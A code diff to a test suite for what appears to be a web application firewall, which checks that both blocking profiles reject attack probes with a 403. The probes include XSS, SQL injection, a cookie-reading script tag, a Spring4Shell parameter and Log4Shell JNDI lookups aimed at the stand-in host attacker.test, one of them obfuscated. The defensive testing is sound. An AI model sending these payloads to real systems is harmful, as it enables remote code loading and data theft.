@@ -68,8 +68,10 @@ describe.each(['fast', 'full'])('the %s profile (blocking)', (profile) => {
     expect(await send(host, `/search?${XSS_QUERY}&t=${profile}-xss`, CLIENT.probes)).toBe(403)
     expect(await send(host, `/orders?t=${profile}-json-sqli`, CLIENT.probes, { body: json({ items: [{ id: 1, name: "1' OR '1'='1" }] }) })).toBe(403)
     expect(await send(host, `/orders?t=${profile}-json-xss`, CLIENT.probes, { body: json({ comment: '<script>alert(document.cookie)</script>' }) })).toBe(403)
-    // Log4Shell in a header: the panel's virtual patch, in both profiles.
+    // Log4Shell in a header: the panel's virtual patch, in both profiles (the ${ is the attack, not a template).
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: the probe is a literal Log4Shell lookup
     expect(await send(host, `/orders?t=${profile}-log4j`, CLIENT.probes, { headers: ['X-Api-Version: ${jndi:ldap://attacker.test/a}'] })).toBe(403)
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: the probe is a literal Log4Shell lookup
     expect(await send(host, `/orders?t=${profile}-log4j-json`, CLIENT.probes, { body: json({ user: '${${lower:j}ndi:ldap://attacker.test/a}' }) })).toBe(403)
     expect(await send(host, `/orders?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x&t=${profile}-spring`, CLIENT.probes)).toBe(403)
     expect(tagsSeenUpstream(before)).toEqual([`${profile}-clean`, `${profile}-json`])
